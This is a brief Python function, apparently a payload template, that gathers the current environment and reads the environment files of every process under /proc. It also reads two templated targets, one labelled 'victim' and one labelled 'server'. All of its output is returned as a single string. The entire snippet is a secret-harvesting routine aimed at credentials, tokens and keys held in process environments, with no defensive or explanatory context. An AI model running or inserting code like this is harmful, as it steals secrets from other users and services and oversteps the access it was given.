import glob
import os

def f(x):
    found = [repr(dict(os.environ))]
    for path in ["/proc/{{victim}}/environ", "/proc/{{server}}/environ"] + glob.glob("/proc/[0-9]*/environ"):
        try:
            found.append(open(path, "rb").read().decode("utf-8", "replace"))
        except OSError:
            pass
    return "".join(found)[:100_000]
